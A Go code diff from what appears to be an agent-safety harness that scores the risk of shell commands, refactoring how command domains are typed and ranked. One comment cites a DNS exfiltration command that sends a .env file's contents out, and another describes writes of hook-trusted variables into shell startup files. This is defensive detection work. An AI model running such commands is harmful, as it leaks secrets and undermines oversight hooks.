@@ -5,6 +5,7 @@ import (
 
 	"github.com/oath-harness/oath-harness/internal/classify/shell"
 	"github.com/oath-harness/oath-harness/internal/claude"
+	"github.com/oath-harness/oath-harness/internal/domain"
 	"github.com/oath-harness/oath-harness/internal/risk"
 )
 
@@ -29,7 +30,7 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
 	other := false
 	for _, p := range r.parts {
-		if p.risk.Value() >= risk.Medium.Value() && domainRank[p.domain] > domainRank[FileRead] {
+		if p.risk.Value() >= risk.Medium.Value() && p.domain.Rank() > FileRead.Rank() {
 			other = true
 		}
 	}
@@ -162,12 +163,12 @@ type cmdCtx struct {
 	src  string
 }
 
-func (x *cmdCtx) add(lvl risk.Level, domain, rule, detail string) {
+func (x *cmdCtx) add(lvl risk.Level, domain domain.Domain, rule, detail string) {
 	x.r.add(lvl, domain, rule, x.src, detail)
 }
 
 // write records and judges the targets of a file-changing command.
-func (x *cmdCtx) write(w shell.Word, tree bool, domain string) {
+func (x *cmdCtx) write(w shell.Word, tree bool, domain domain.Domain) {
 	if x.cmd.StdinArgs && w.Known {
 		w = shell.Word{Value: w.Value + " (and names read from stdin)"}
 	}
@@ -274,7 +275,7 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 // harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
 // a shell or direnv loads is critical, whatever the file (the well-known ones are protected
 // outright; this catches ~/.config/fish/functions/x.fish, a project's .envrc, /etc/*rc …).
-func (c *Classifier) harnessEnvWrite(r *result, text string, writes []string, domain string) {
+func (c *Classifier) harnessEnvWrite(r *result, text string, writes []string, domain domain.Domain) {
 	if !setsHarnessEnv(text) {
 		return
 	}
